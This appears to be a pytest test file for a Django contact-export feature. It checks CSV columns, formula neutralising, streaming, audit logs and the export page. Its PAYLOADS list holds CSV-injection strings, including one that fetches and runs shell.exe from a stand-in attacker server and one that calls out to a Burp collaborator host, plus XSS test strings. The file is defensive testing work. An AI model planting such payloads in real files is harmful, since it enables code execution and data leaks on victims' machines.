"""Export contacts as CSV: the page, the file's columns and cells, the stream, the audit entry and the command."""

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from companies.models import CompanyAccess, MembershipAccess
from customers.export import COLUMN_SETS, FORMULA_CHARACTERS, FORMULA_STARTS, FULL, SHOPIFY, cell, export_csv
from customers.models import (
    ConsentChannel,
    ConsentRecord,
    ConsentSource,
    ConsentState,
    Contact,
    ExportLog,
    Source,
    Stage,
)
from customers.selectors import contacts_for_export, contacts_live
from customers.views.export import contact_export
from tests.factories import (
    CompanyFactory,
    ContactFactory,
    LabelFactory,
    MembershipFactory,
    PhoneNumberFactory,
    UserFactory,
)
from tests.naughty import NAUGHTY_STRINGS, OUT_OF_RANGE_IDS

pytestmark = pytest.mark.django_db
EXPORT = reverse("customers:export")
LIST = reverse("customers:list")
NOTHING = "No contacts match this selection, so there is nothing to export."
SHOPIFY_HEADER_FILE = Path(__file__).resolve().parents[1] / "fixtures" / "shopify-customers-export-header.csv"

# PayloadsAllTheThings, "CSV Injection" (swisskyrepo/PayloadsAllTheThings), plus each formula start on its own.
PAYLOADS = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D                    |        '/        c       c  al  c      .  e"
    "                  x       e  '   !   A",
    '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A1",
    "@SUM(1+9)",
    "\t=cmd|'/C calc'!A0",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def body_of(response) -> str:
    assert response.status_code == 200, response.content[:500]
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def download(client, **data) -> list[list[str]]:
    """Post the export form with `download` and return the file's rows (header first)."""
    return rows_of(body_of(client.post(EXPORT, {"download": "1", "columns": FULL, "scope": "all", **data})))


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def everything_contact() -> Contact:
    """A contact with every exported field filled in."""
    contact = ContactFactory(
        first_name="Ann",
        last_name="Lee",
        email="ann@x.example",
        stage=Stage.CUSTOMER,
        source=Source.ORDER,
        address_line1="1 High Street",
        address_line2="Flat 2",
        city="Leeds",
        region="West Yorkshire",
        postal_code="LS1 1AA",
        country="GB",
        marketing_consent=ConsentState.UNSUBSCRIBED,
        orders_count=3,
        total_spent=Decimal("120.50"),
        last_order_at=datetime(2026, 3, 1, 9, 30, tzinfo=UTC),
        details_locked=True,
    )
    PhoneNumberFactory(contact=contact, number="+442071838750", label="mobile", position=0)
    PhoneNumberFactory(contact=contact, number="+447700900123", label="", position=1)
    contact.labels.add(LabelFactory(name="VIP"), LabelFactory(name="Newsletter"))
    # Joined Beta first: the export lists companies by name.
    MembershipFactory(
        contact=contact,
        company=CompanyFactory(name="Beta", default_portal_access=CompanyAccess.COMPANY),
        portal_access=MembershipAccess.PERSONAL,
    )
    MembershipFactory(
        contact=contact,
        company=CompanyFactory(name="Acme", default_portal_access=CompanyAccess.COMPANY),
        portal_access=MembershipAccess.INHERIT,
    )
    for channel, state, day in [
        (ConsentChannel.EMAIL, ConsentState.SUBSCRIBED, 1),
        (ConsentChannel.EMAIL, ConsentState.UNSUBSCRIBED, 20),
        (ConsentChannel.SMS, ConsentState.SUBSCRIBED, 25),
    ]:
        ConsentRecord.objects.create(
            contact=contact,
            channel=channel,
            state=state,
            source=ConsentSource.STAFF,
            given_at=datetime(2026, 2, day, 12, 0, tzinfo=UTC),
            collected_how=f"By phone, day {day}",
        )
    return contact


class TestColumns:
    def test_full_columns_hold_every_field(self, staff_client):
        """Including the whole consent history: one contact's Full export answers an access request (SECURITY 35)."""
        contact = everything_contact()
        rows = download(staff_client)
        assert rows[0] == list(COLUMN_SETS[FULL].header)
        assert len(rows) == 2
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row == {
            "Contact ID": str(contact.pk),
            "First name": "Ann",
            "Last name": "Lee",
            "Email": "ann@x.example",
            "Stage": "Customer",
            "Source": "Shop order",
            "Created": timezone.localtime(contact.created_at).isoformat(timespec="seconds"),
            "Address line 1": "1 High Street",
            "Address line 2": "Flat 2",
            "Town or city": "Leeds",
            "County, state or province": "West Yorkshire",
            "Postcode": "LS1 1AA",
            "Country": "GB",
            # A cell that starts with + is a formula to a spreadsheet, phone numbers included, and so is the
            # second number to a spreadsheet that splits on ";".
            "Phones": "'+442071838750 (mobile); '+447700900123",
            "Labels": "Newsletter; VIP",
            "Companies": "Acme (Access all company's tickets); Beta (Access personal tickets only)",
            "Marketing consent": "Unsubscribed",
            # The latest email record's moment; the later SMS record is another channel.
            "Marketing consent date": "2026-02-20T12:00:00+00:00",
            "Marketing consent history": "\n".join(
                [
                    "2026-02-25T12:00:00+00:00 SMS: Subscribed (Staff, Unknown) By phone, day 25",
                    "2026-02-20T12:00:00+00:00 Email: Unsubscribed (Staff, Unknown) By phone, day 20",
                    "2026-02-01T12:00:00+00:00 Email: Subscribed (Staff, Unknown) By phone, day 1",
                ]
            ),
            "Orders": "3",
            "Total spent": "120.50",
            "Last order": "2026-03-01T09:30:00+00:00",
            "Details locked": "yes",
        }

    def test_shopify_columns_follow_shopifys_header_with_ids_and_phones_as_text(self, staff_client):
        contact = everything_contact()
        rows = download(staff_client, columns=SHOPIFY)
        assert rows[0] == list(COLUMN_SETS[SHOPIFY].header)
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row == {
            "Customer ID": f"'{contact.pk}",
            "First Name": "Ann",
            "Last Name": "Lee",
            "Email": "ann@x.example",
            "Accepts Email Marketing": "no",
            "Default Address Company": "Acme",
            "Default Address Address1": "1 High Street",
            "Default Address Address2": "Flat 2",
            "Default Address City": "Leeds",
            "Default Address Province Code": "West Yorkshire",
            "Default Address Country Code": "GB",
            "Default Address Zip": "LS1 1AA",
            "Default Address Phone": "'+442071838750",
            "Phone": "'+442071838750",
            "Accepts SMS Marketing": "yes",
            "Total Spent": "120.50",
            "Total Orders": "3",
            "Note": "",
            "Tax Exempt": "no",
            "Tags": "Newsletter, VIP",
        }

    def test_the_shopify_header_is_the_one_shopify_exports(self):
        expected = next(csv.reader(SHOPIFY_HEADER_FILE.read_text(encoding="utf-8").splitlines()))
        assert list(COLUMN_SETS[SHOPIFY].header) == expected

    @pytest.mark.parametrize("columns", [FULL, SHOPIFY])
    def test_hostile_values_round_trip_without_changing_rows_or_columns(self, staff_client, columns):
        """Quotes, commas, CR/LF and naughty strings stay inside their cells (SECURITY 2)."""
        hostile = [
            'Ann, "the" Boss',
            "line one\r\nline two",
            "lone\rreturn",
            "lone\nnewline",
            '"',
            '""",,,\r\n',
            *(text for text in NAUGHTY_STRINGS if "\x00" not in text or connection.vendor == "sqlite"),
        ]
        label = LabelFactory(name='Tag, "quoted"\nnext')
        company = CompanyFactory(name='Acme; "Ltd", \r\nUK')
        for index, text in enumerate(hostile):
            contact = ContactFactory(
                first_name=text[:150], last_name=text[:150], city=text[:100], email=f"h{index}@x.ex"
            )
            contact.labels.add(label)
            MembershipFactory(contact=contact, company=company)
            PhoneNumberFactory(contact=contact, label="work,\r\nhome")
        rows = download(staff_client, columns=columns)
        assert len(rows) == 1 + len(hostile)
        assert {len(row) for row in rows} == {len(COLUMN_SETS[columns].header)}
        first_names = column(rows, "First name" if columns == FULL else "First Name")
        # What went in comes out, behind an apostrophe only where it would start a formula.
        assert first_names == [cell(text[:150]) for text in hostile]

    @pytest.mark.parametrize("columns", [FULL, SHOPIFY])
    def test_csv_injection_payloads_are_exported_inert(self, staff_client, columns):
        """PayloadsAllTheThings' CSV injection payloads: no cell starts a formula (SECURITY 1)."""
        for index, payload in enumerate(PAYLOADS):
            contact = ContactFactory(
                first_name=payload, last_name=payload, city=payload[:100], email=f"p{index}@x.example"
            )
            contact.labels.add(LabelFactory(name=f"{payload[:40]} {index}"))
            MembershipFactory(contact=contact, company=CompanyFactory(name=f"{payload} {index}"))
            PhoneNumberFactory(contact=contact, label=payload[:30])
        rows = download(staff_client, columns=columns)
        assert len(rows) == 1 + len(PAYLOADS)
        for row in rows[1:]:
            for value in row:
                assert not value.startswith(FORMULA_STARTS), value
        first_names = column(rows, "First name" if columns == FULL else "First Name")
        for payload, exported in zip(PAYLOADS, first_names, strict=True):
            if payload.startswith(("\t", "\r", "\n")):
                # The line break or tab is stripped, and it also ends a field or line in some reader, so the
                # formula after it is marked too.
                assert exported == f"'{payload[0]}'{payload[1:]}"
            else:
                # The rest of the value is unchanged (SECURITY 1).
                assert exported == (f"'{payload}" if payload.startswith(FORMULA_STARTS) else payload)

    @pytest.mark.parametrize(
        ("value", "written"),
        [
            ("=1+1", "'=1+1"),
            ("+44 20", "'+44 20"),
            ("-5", "'-5"),
            ("@me", "'@me"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("\nx", "'\nx"),
            ("＝1", "'＝1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠x", "'＠x"),
            ("Ann", "Ann"),
            ("a=1", "a=1"),
            (" =1", " =1"),
            ("", ""),
            (None, ""),
            (12, "12"),
        ],
    )
    def test_cell_prefixes_exactly_the_formula_starts(self, value, written):
        assert cell(value) == written

    @pytest.mark.parametrize(
        ("value", "written"),
        [
            # After each separator a spreadsheet may split on.
            ("x;=SUM(1+41);y", "x;'=SUM(1+41);y"),
            ("x,=SUM(1+41)", "x,'=SUM(1+41)"),
            ("x\t=SUM(1+41)", "x\t'=SUM(1+41)"),
            # On every line of a multi-line cell, whichever line break.
            ("Note\n=1+1", "Note\n'=1+1"),
            ("Note\r=1+1", "Note\r'=1+1"),
            ("Note\r\n=1+1", "Note\r\n'=1+1"),
            ("One\nTwo\n=3\n+4", "One\nTwo\n'=3\n'+4"),
            # Every formula character, full-width ones included.
            ("a;+1", "a;'+1"),
            ("a;-1", "a;'-1"),
            ("a;@SUM(1)", "a;'@SUM(1)"),
            ("a;＝1", "a;'＝1"),
            ("a;＋1", "a;'＋1"),
            ("a;－1", "a;'－1"),
            ("a;＠x", "a;'＠x"),
            # Spaces a reader may trim, and quote marks it may take for the field's own, come between.
            ("x; =1", "x; '=1"),
            ("x;   =1", "x;   '=1"),
            ("x,\t =1", "x,\t '=1"),
            ('x;"=1"', 'x;"\'=1"'),
            ('x; " =1', "x; \" '=1"),
            # Every field of the cell, with the start rule as well.
            ("=1;=2,=3", "'=1;'=2,'=3"),
            ("a;;=1", "a;;'=1"),
            (";=1", ";'=1"),
            ("\t=1", "'\t'=1"),
            ("\n-1", "'\n'-1"),
            ("\r\n@x", "'\r\n'@x"),
            # Nothing else changes.
            ("Ann-Marie", "Ann-Marie"),
            ("2026-03-01", "2026-03-01"),
            ("a-b", "a-b"),
            ("2026-02-01T12:00:00+00:00", "2026-02-01T12:00:00+00:00"),
            ("ann@x.example", "ann@x.example"),
            ("Newsletter; VIP", "Newsletter; VIP"),
            ("x;'=1", "x;'=1"),
            ("1,5", "1,5"),
            ("a;b,c\td\ne", "a;b,c\td\ne"),
            ("x;y=1", "x;y=1"),
        ],
    )
    def test_cell_marks_a_formula_after_a_separator_or_line_break(self, value, written):
        assert cell(value) == written

    @settings(max_examples=300, deadline=None)
    @given(st.text(alphabet=[*FORMULA_STARTS, ";", ",", " ", '"', "'", "a", "1"]) | st.text())
    def test_no_field_of_any_reader_starts_a_formula_and_only_apostrophes_are_added(self, value):
        written = cell(value)
        assert not written.startswith(FORMULA_STARTS)
        first, *fields = re.split(r"[;,\t\r\n]", written)
        assert not first.startswith(tuple(FORMULA_CHARACTERS))
        for field in fields:
            assert not field.lstrip(' "').startswith(tuple(FORMULA_CHARACTERS)), (value, written)
        # The value itself, with an apostrophe inserted before some characters and nothing else.
        assert re.fullmatch("'?" + "'?".join(map(re.escape, value)), written, re.DOTALL), (value, written)

    def test_every_field_is_quoted(self, staff_client):
        """A reader that trims spaces leaves a quoted field alone, so ` =1` stays text."""
        ContactFactory(first_name=" =1", last_name="Lee", email="ann@x.example", orders_count=2)
        body = body_of(staff_client.post(EXPORT, {"download": "1", "columns": FULL, "scope": "all"}))
        header, row = body.split("\r\n")[:2]
        assert header.startswith('"Contact ID","First name","Last name","Email",')
        assert '," =1","Lee","ann@x.example",' in row
        assert row.endswith(',"2","0.00","","no"')


class TestDownload:
    def test_the_file_is_named_for_today_streamed_and_never_cached(self, staff_client):
        ContactFactory()
        response = staff_client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL})
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        today = timezone.localdate().isoformat()
        assert response["Content-Disposition"] == f'attachment; filename="contacts-{today}.csv"'
        assert response["Cache-Control"] == "no-store"
        assert response["X-Content-Type-Options"] == "nosniff"
        body = body_of(response)
        assert not body.startswith("\ufeff")

    def test_a_byte_order_mark_on_request(self, staff_client):
        ContactFactory(first_name="Zoë")
        response = staff_client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL, "bom": "on"})
        raw = b"".join(response.streaming_content)
        assert raw.startswith(b'\xef\xbb\xbf"Contact ID",')
        assert "Zoë" in raw.decode("utf-8-sig")

    def test_the_header_leaves_before_any_query(self, staff_client, django_assert_num_queries):
        """The first bytes come at once: the header is written before the first batch is read (SECURITY 4)."""
        ContactFactory()
        response = staff_client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL})
        chunks = iter(response.streaming_content)
        with django_assert_num_queries(0):
            first = next(chunks)
        assert first.decode().startswith('"Contact ID","First name",')
        assert len(rows_of(b"".join(chunks).decode())) == 1

    def test_one_chunk_per_batch(self):
        ContactFactory.create_batch(5)
        chunks = list(export_csv(contacts=contacts_live(), columns=FULL, batch_size=2))
        # The header, then batches of 2, 2 and 1.
        assert [len(rows_of(chunk)) for chunk in chunks] == [1, 2, 2, 1]

    def test_selected_contacts_only_and_never_the_trash(self, staff_client):
        ann, bob, _other = ContactFactory(email="ann@x.ex"), ContactFactory(email="bob@x.ex"), ContactFactory()
        trashed = ContactFactory(email="gone@x.ex", deleted_at=timezone.now())
        ids = [ann.pk, bob.pk, ann.pk, trashed.pk, 999_999, "x", "-1", "1e3", "٣", "9" * 30]
        rows = download(staff_client, scope="selected", ids=ids)
        assert sorted(column(rows, "Email")) == ["ann@x.ex", "bob@x.ex"]

    def test_all_contacts_leaves_out_the_trash(self, staff_client):
        ContactFactory(email="live@x.ex")
        ContactFactory(email="gone@x.ex", deleted_at=timezone.now())
        assert column(download(staff_client), "Email") == ["live@x.ex"]

    def test_ticked_ids_only_narrow_the_lists_filter(self, staff_client):
        """An id outside the filter the rows were ticked under is not exported (SECURITY 21)."""
        vip = LabelFactory(name="VIP")
        inside = ContactFactory(email="in@x.ex")
        inside.labels.add(vip)
        outside = ContactFactory(email="out@x.ex")
        rows = download(staff_client, scope="selected", query=f"labels={vip.pk}", ids=[inside.pk, outside.pk])
        assert column(rows, "Email") == ["in@x.ex"]

    def test_all_that_match_the_filter_and_search(self, staff_client):
        vip = LabelFactory(name="VIP")
        for email in ("ann@x.ex", "anna@x.ex", "bob@x.ex"):
            # Fixed names: a generated one ("Joanna") could match the search too.
            ContactFactory(email=email, first_name="Sam", last_name="Cole").labels.add(vip)
        ContactFactory(email="annie@x.ex", first_name="Sam", last_name="Cole")
        rows = download(staff_client, scope="matching", query=f"labels={vip.pk}&q=ann&sort=name&cursor=junk")
        assert sorted(column(rows, "Email")) == ["ann@x.ex", "anna@x.ex"]

    def test_more_than_a_thousand_matching_contacts(self, staff_client):
        """'All that match' sends the query, not ids, so any number of rows can be exported (SECURITY 3)."""
        Contact.objects.bulk_create(Contact(email=f"bulk{index}@x.example") for index in range(1_200))
        rows = download(staff_client, scope="matching", query="stage=lead")
        assert len(rows) == 1 + 1_200
        assert ExportLog.objects.get().row_count == 1_200

    def test_a_full_page_of_ticked_rows(self, staff_client):
        contacts = ContactFactory.create_batch(50)
        rows = download(staff_client, scope="selected", ids=[contact.pk for contact in contacts])
        assert len(rows) == 51

    def test_more_ids_than_a_request_may_carry_is_a_bad_request_not_an_error(self, staff_client):
        ContactFactory()
        ids = [str(number) for number in range(1, 1_002)]
        response = staff_client.post(EXPORT, {"download": "1", "scope": "selected", "columns": FULL, "ids": ids})
        assert response.status_code == 400
        assert not ExportLog.objects.exists()


class TestNothingToExport:
    @pytest.mark.parametrize(
        "data",
        [
            {"scope": "selected", "ids": []},
            {"scope": "selected", "ids": ["abc", "999999"]},
            {"scope": "matching", "query": "q=nobody-has-this"},
            {"scope": "all"},
        ],
        ids=["nothing ticked", "ticked ids that match nothing", "filter matching nothing", "empty address book"],
    )
    def test_an_empty_selection_gets_a_message_not_an_empty_file(self, staff_client, data):
        if data["scope"] != "all":
            ContactFactory()
        response = staff_client.post(EXPORT, {"download": "1", "columns": FULL, **data})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/html")
        html = response.content.decode()
        assert NOTHING in html
        assert "<title>Error: Export contacts" in html
        assert not ExportLog.objects.exists()

    def test_ticked_contacts_trashed_since_are_nothing_to_export(self, staff_client):
        gone = ContactFactory(deleted_at=timezone.now())
        response = staff_client.post(EXPORT, {"download": "1", "columns": FULL, "scope": "selected", "ids": [gone.pk]})
        assert NOTHING in response.content.decode()

    @pytest.mark.parametrize("data", [{"scope": "everything"}, {"columns": "xml"}, {"scope": ""}])
    def test_a_tampered_choice_gets_a_clear_error(self, staff_client, data):
        ContactFactory()
        response = staff_client.post(EXPORT, {"download": "1", "columns": FULL, "scope": "all", **data})
        html = response.content.decode()
        assert response.status_code == 200
        assert "There is a problem" in html
        assert ("Choose which contacts to export" in html) or ("Choose the columns" in html)
        assert not ExportLog.objects.exists()


class TestAudit:
    def test_every_export_is_logged_with_who_what_and_how_many(self, staff_client, staff_user):
        vip = LabelFactory(name="VIP")
        ann, bob = ContactFactory(), ContactFactory()
        for contact in (ann, bob):
            contact.labels.add(vip)
        download(staff_client, scope="selected", query=f"labels={vip.pk}", ids=[bob.pk, ann.pk], columns=SHOPIFY)
        log = ExportLog.objects.get()
        assert (log.user, log.scope, log.columns, log.row_count) == (staff_user, "selected", SHOPIFY, 2)
        assert log.filters == {"filters": f"labels={vip.pk}", "ids": sorted([ann.pk, bob.pk]), "finished": True}
        assert log.created_at is not None

    @pytest.mark.parametrize(("scope", "logged"), [("matching", "filter"), ("all", "all")])
    def test_the_scope_is_logged(self, staff_client, scope, logged):
        ContactFactory(stage=Stage.CUSTOMER)
        download(staff_client, scope=scope, query="stage=customer")
        log = ExportLog.objects.get()
        assert log.scope == logged
        assert log.filters["filters"] == ("stage=customer" if scope == "matching" else "")

    def test_the_entry_exists_before_the_first_byte_and_records_a_download_cut_short(self, rf, staff_user):
        """A client that goes away mid-download still leaves an entry, marked unfinished (SECURITY 5)."""
        ContactFactory.create_batch(3)
        # The view itself, without the test client's wrapper around the stream, so closing it is what a WSGI
        # server does when the client disconnects.
        request = rf.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL})
        request.user = staff_user
        response = contact_export(request)
        log = ExportLog.objects.get()
        assert (log.row_count, log.filters["finished"]) == (0, False)
        next(iter(response.streaming_content))
        # The server then also closes the database connection; here it is the test's, so it stays open.
        request_finished.disconnect(close_old_connections)
        try:
            response.close()
        finally:
            request_finished.connect(close_old_connections)
        log.refresh_from_db()
        assert (log.row_count, log.filters["finished"]) == (0, False)

    def test_rows_handed_on_before_a_disconnect_are_counted(self, staff_user):
        ContactFactory.create_batch(3)
        log = ExportLog.objects.create(user=staff_user, scope="all", columns=FULL, filters={"finished": False})
        chunks = export_csv(contacts=contacts_live(), columns=FULL, log=log, batch_size=1)
        next(chunks)
        next(chunks)
        chunks.close()
        log.refresh_from_db()
        assert (log.row_count, log.filters["finished"]) == (1, False)


class TestQueries:
    # Per batch, whatever it holds:
    PER_BATCH = [
        "the batch of contacts, after the last key of the batch before",
        "their phones",
        "their labels",
        "their company memberships",
        "those companies' names and default access, by key",
        "their consent records",
    ]

    @pytest.mark.parametrize("rows", [1, 50])
    def test_a_batch_costs_the_same_whatever_it_holds(self, django_assert_num_queries, rows):
        for _ in range(rows):
            everything_contact_lite()
        with django_assert_num_queries(len(self.PER_BATCH)):
            chunks = list(export_csv(contacts=contacts_live(), columns=FULL))
        assert sum(len(rows_of(chunk)) for chunk in chunks) == 1 + rows

    def test_each_batch_costs_the_same(self, django_assert_num_queries):
        for _ in range(5):
            everything_contact_lite()
        # Batches of 2, 2 and 1: the short last batch says there is no more.
        with django_assert_num_queries(3 * len(self.PER_BATCH)):
            list(export_csv(contacts=contacts_live(), columns=FULL, batch_size=2))

    def test_the_export_page(self, staff_client, django_assert_num_queries):
        vip = LabelFactory()
        ticked = ContactFactory()
        ticked.labels.add(vip)
        estimate = ["  preceded by the planner's estimate"] if connection.vendor == "postgresql" else []
        expected = [
            "session",
            "user",
            "the user's own permissions",
            "the user's group permissions",
            "the list's label filter, checked by the form",
            "the ticked contacts' label filter, checked by their own selection",
            "the ticked contacts that match, counted",
            *estimate,
            "contacts that match the filter, counted up to the limit",
            *estimate,
            "all live contacts, counted up to the limit",
        ]
        with django_assert_num_queries(len(expected)):
            response = staff_client.post(EXPORT, {"query": f"labels={vip.pk}", "ids": [ticked.pk]})
        assert response.status_code == 200


class TestBatches:
    def related_counts(self, batch):
        return [
            (len(row["phones"]), len(row["labels"]), len(row["memberships"]), len(row["consents"])) for row in batch
        ]

    def test_a_dense_batch_leaves_out_the_related_rows_of_contacts_not_in_it(self):
        """A batch with few gaps is read by key range; a trashed contact inside it brings nothing along."""
        first, gone, last = (everything_contact_lite() for _ in range(3))
        Contact.objects.filter(pk=gone.pk).update(deleted_at=timezone.now())
        [batch] = contacts_for_export(contacts=contacts_live())
        assert [row["id"] for row in batch] == [first.pk, last.pk]
        assert self.related_counts(batch) == [(1, 1, 1, 1)] * 2
        assert batch[1]["phones"] == [(last.phones.get().number, "")]

    def test_a_sparse_batch_is_read_by_its_keys(self):
        contacts = [everything_contact_lite() for _ in range(8)]
        chosen = [contacts[0].pk, contacts[-1].pk]
        [batch] = contacts_for_export(contacts=contacts_live().filter(pk__in=chosen))
        assert [row["id"] for row in batch] == chosen
        assert self.related_counts(batch) == [(1, 1, 1, 1)] * 2
        assert batch[1]["labels"] == [(contacts[-1].labels.get().name,)]


def everything_contact_lite() -> Contact:
    contact = ContactFactory()
    PhoneNumberFactory(contact=contact)
    contact.labels.add(LabelFactory())
    MembershipFactory(contact=contact)
    ConsentRecord.objects.create(
        contact=contact,
        state=ConsentState.SUBSCRIBED,
        source=ConsentSource.STAFF,
        given_at=timezone.now(),
        collected_how="By phone",
    )
    return contact


class TestPage:
    def test_from_the_actions_link_it_offers_what_the_list_shows(self, staff_client):
        vip = LabelFactory(name="VIP")
        ContactFactory(first_name="Ann").labels.add(vip)
        ContactFactory(first_name="Bob")
        response = staff_client.get(EXPORT, {"labels": vip.pk, "q": "ann", "sort": "name"})
        html = response.content.decode()
        assert response.status_code == 200
        assert "<h1>Export contacts</h1>" in html
        assert "selected contact" not in html
        assert 'value="matching" checked' in html
        assert "All 1 contact that match" in html
        assert "Label: VIP" in html
        assert "Search: ann" in html
        assert "All contacts" in html
        assert "2 contacts, whatever the filters" in html
        assert 'value="full" checked' in html
        assert "Add a byte-order mark (for Excel)" in html
        # Cancel goes back to the list with its filters.
        assert f'href="{LIST}?q=ann&amp;labels={vip.pk}"' in html

    def test_without_filters_all_contacts_is_the_only_scope(self, staff_client):
        ContactFactory()
        html = staff_client.get(EXPORT).content.decode()
        assert "that match" not in html
        assert 'value="all" checked' in html

    def test_from_the_bulk_bar_the_ticked_rows_are_chosen(self, staff_client):
        ann, bob = ContactFactory(), ContactFactory()
        response = staff_client.post(EXPORT, {"query": "stage=lead", "ids": [ann.pk, bob.pk, "junk"]})
        html = response.content.decode()
        assert "The 2 selected contacts" in html
        assert 'value="selected" checked' in html
        assert f'<input type="hidden" name="ids" value="{ann.pk}">' in html
        assert '<input type="hidden" name="query" value="stage=lead">' in html
        assert not ExportLog.objects.exists()

    def test_one_ticked_row_reads_in_the_singular(self, staff_client):
        ann = ContactFactory()
        html = staff_client.post(EXPORT, {"ids": [ann.pk]}).content.decode()
        assert "The 1 selected contact<" in html

    def test_select_all_that_match_in_the_bulk_bar_chooses_matching(self, staff_client):
        contacts = ContactFactory.create_batch(2, stage=Stage.CUSTOMER)
        data = {"query": "stage=customer", "scope": "matching", "ids": [contact.pk for contact in contacts]}
        html = staff_client.post(EXPORT, data).content.decode()
        assert 'value="matching" checked' in html
        assert "All 2 contacts that match" in html
        assert "Stage: Customer" in html

    def test_filter_values_and_names_are_shown_as_text(self, staff_client):
        label = LabelFactory(name='<img src=x onerror="alert(1)">')
        ContactFactory().labels.add(label)
        html = staff_client.get(EXPORT, {"labels": label.pk, "q": '"><script>x</script>'}).content.decode()
        assert "<img src=x" not in html
        assert "<script>x" not in html

    def test_a_filter_value_that_is_not_valid_is_named(self, staff_client):
        ContactFactory()
        html = staff_client.get(EXPORT, {"labels": "999999"}).content.decode()
        assert "Part of the list's filter could not be used" in html

    @pytest.mark.parametrize(
        ("params", "named"),
        [
            ({"created_to": "9999-12-31"}, "Created to: “9999-12-31” is not a valid date. It was ignored."),
            ({"created_from": "9999-12-31"}, "Created from: “9999-12-31” is not a valid date. It was ignored."),
            *[({"labels": value}, value) for value in OUT_OF_RANGE_IDS],
        ],
    )
    def test_a_filter_value_beyond_what_the_database_holds_is_named_never_a_500(
        self, staff_client, production, params, named
    ):
        ContactFactory()
        response = staff_client.get(EXPORT, params)
        assert response.status_code == 200
        html = response.content.decode()
        assert "Part of the list's filter could not be used" in html
        assert named in html

    @pytest.mark.parametrize("query", ["created_to=9999-12-31", "labels=9223372036854775808", f"labels={'9' * 40}"])
    def test_a_posted_filter_value_beyond_what_the_database_holds_is_ignored_never_a_500(
        self, staff_client, production, query
    ):
        contact = ContactFactory(email="ann@x.example")
        page = staff_client.post(EXPORT, {"query": query, "ids": [contact.pk]})
        assert page.status_code == 200
        assert "It was ignored." in page.content.decode()
        # The download leaves the value out as the page did: the one contact, not an error.
        rows = download(staff_client, scope="matching", query=query)
        assert column(rows, "Email") == ["ann@x.example"]

    def test_the_lists_actions_export_submits_the_selection_form_and_is_the_only_export_control(self, staff_client):
        """Help article 002: tick the boxes, then Export contacts in the upper-right corner acts on them."""
        ContactFactory(first_name="Ann")
        html = staff_client.get(LIST, {"q": "ann"}).content.decode()
        assert '<form method="post" action="/contacts/bulk/" class="bulk" id="bulk-form"' in html
        button = f'<button type="submit" form="bulk-form" formaction="{EXPORT}" data-bulk-verb="Export">'
        assert f"{button}Export contacts</button>" in html
        assert html.count("Export contacts") == 1
        assert '<input type="hidden" name="query" value="q=ann">' in html

    def test_the_lists_actions_follow_the_filters_through_htmx_swaps(self, staff_client):
        ContactFactory(first_name="Ann")
        html = staff_client.get(LIST, {"q": "ann"}, HTTP_HX_REQUEST="true").content.decode()
        assert '<ul class="actions-menu__items" id="list-actions-items" hx-swap-oob="true">' in html
        assert 'form="bulk-form"' in html
        # With no rows to tick, Export is a link carrying the list's filters.
        html = staff_client.get(LIST, {"q": "nobody"}, HTTP_HX_REQUEST="true").content.decode()
        assert 'id="bulk-form"' not in html
        assert f'<li><a href="{EXPORT}?q=nobody">Export contacts</a></li>' in html

    def test_the_contact_pages_export_contact_offers_just_that_contact_and_leads_back_there(self, client, viewer):
        """Help article 001: Actions → Export contact on the contact page, through the same export page."""
        ann = ContactFactory(first_name="Ann", last_name="Lee", email="ann@x.example")
        ContactFactory(email="bob@x.example")
        client.force_login(viewer)
        page = client.get(ann.get_absolute_url()).content.decode()
        assert '<summary class="button button--secondary">Actions</summary>' in page
        [form] = re.findall(rf'<form method="post" action="{EXPORT}">(.*?)</form>', page, re.DOTALL)
        assert '<button type="submit">Export contact</button>' in form
        posted = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form))
        assert posted["ids"] == posted["contact"] == str(ann.pk)

        html = client.post(EXPORT, posted).content.decode()
        assert 'value="selected" checked' in html
        assert "The 1 selected contact<" in html
        assert f'<a class="page-header__back" href="{ann.get_absolute_url()}">Back to Ann Lee</a>' in html
        assert f'<a class="button button--link" href="{ann.get_absolute_url()}">Cancel</a>' in html
        assert f'<input type="hidden" name="contact" value="{ann.pk}">' in html
        assert not ExportLog.objects.exists()

        rows = download(client, **posted, scope="selected")
        assert column(rows, "Email") == ["ann@x.example"]

    @pytest.mark.parametrize("contact", ["other", "junk", ""])
    def test_a_contact_that_is_not_the_one_selected_leads_back_to_the_list(self, staff_client, contact):
        ann, bob = ContactFactory(), ContactFactory()
        values = {"other": str(bob.pk), "junk": "1 or 1", "": ""}
        html = staff_client.post(EXPORT, {"ids": [ann.pk], "contact": values[contact]}).content.decode()
